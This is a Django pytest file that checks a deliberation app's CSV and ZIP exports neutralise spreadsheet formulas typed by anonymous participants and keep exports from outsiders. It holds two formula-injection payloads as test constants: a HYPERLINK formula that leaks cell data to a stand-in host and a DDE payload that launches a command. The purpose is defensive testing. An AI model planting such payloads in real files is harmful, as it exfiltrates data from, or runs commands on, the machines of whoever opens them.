"""Words typed by anonymous participants reach every export as text, never as a spreadsheet formula.

The payloads are the ones reported in "Keep every promise the pages make" (item 6).
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from coproduce.live.actions import do_advance_phase, do_finish_session
from coproduce.live.models import Phase
from tests.live.factories import client_for, fresh, join, start_at

pytestmark = pytest.mark.django_db

STATEMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for more")'
MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def finished(live_session, facilitator):
    """A finished session where one participant typed a formula as a statement and another as a message."""
    session = start_at(live_session, Phase.Activity.STATEMENTS, facilitator)
    typist, other = join(session, "Ann"), join(session, "Bea")
    response = client_for(typist).post(
        reverse("deliberation:submit_statement", args=[session.pk]), {"text": STATEMENT}
    )
    assert response.status_code == 302
    statement = session.statements.get()
    client_for(other).post(
        reverse("deliberation:vote", args=[session.pk]), {"statement": statement.pk, "value": "agree"}
    )
    session = do_advance_phase(fresh(session), acting_user=facilitator)
    while session.current_phase.activity != Phase.Activity.TAKE_HOME:
        session = do_advance_phase(session, acting_user=facilitator)
    response = client_for(other).post(reverse("deliberation:take_home", args=[session.pk]), {"text": MESSAGE})
    assert response.status_code == 302
    return fresh(do_finish_session(session, acting_user=facilitator))


def _download(client, session, name: str) -> bytes:
    response = client.get(reverse("deliberation:export", args=[session.pk, name]))
    assert response.status_code == 200
    return response.content


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_formulas_typed_by_participants_reach_every_export_as_text(finished, facilitator, client):
    client.force_login(facilitator)
    statements = _rows(_download(client, finished, "statements.csv"))
    assert [r["text"] for r in statements] == ["'" + STATEMENT]
    messages = _rows(_download(client, finished, "take-home-messages.csv"))
    assert [r["message"] for r in messages] == ["'" + MESSAGE]
    comments = _rows(_download(client, finished, "comments.csv"))
    assert [r["comment-body"] for r in comments] == ["'" + STATEMENT]
    with zipfile.ZipFile(io.BytesIO(_download(client, finished, "polis-export.zip"))) as archive:
        zipped = _rows(archive.read("comments.csv"))
    assert [r["comment-body"] for r in zipped] == ["'" + STATEMENT]
    for name in ("statements.csv", "take-home-messages.csv", "comments.csv", "votes.csv", "pieces.csv"):
        for row in csv.reader(io.StringIO(_download(client, finished, name).decode("utf-8-sig"))):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)


def test_the_raw_polis_export_keeps_the_words_as_typed_and_is_marked(finished, member, client, tmp_path):
    from coproduce.engine.polis_io import read_polis_export

    client.force_login(member)  # a project member may export a finished session
    page = client.get(reverse("deliberation:outcomes", args=[finished.pk])).content.decode()
    assert "Raw Polis export (ZIP, not for spreadsheets)" in page
    assert "Do not open these files in a spreadsheet program" in page
    with zipfile.ZipFile(io.BytesIO(_download(client, finished, "polis-export-raw.zip"))) as archive:
        archive.extractall(tmp_path)
    export = read_polis_export(tmp_path)
    assert list(export.texts.values()) == [STATEMENT]
    assert len(export.values) == 1


def test_people_who_may_not_export_get_neither_export(finished, outsider, client):
    client.force_login(outsider)
    for name in ("polis-export.zip", "polis-export-raw.zip"):
        assert client.get(reverse("deliberation:export", args=[finished.pk, name])).status_code == 404
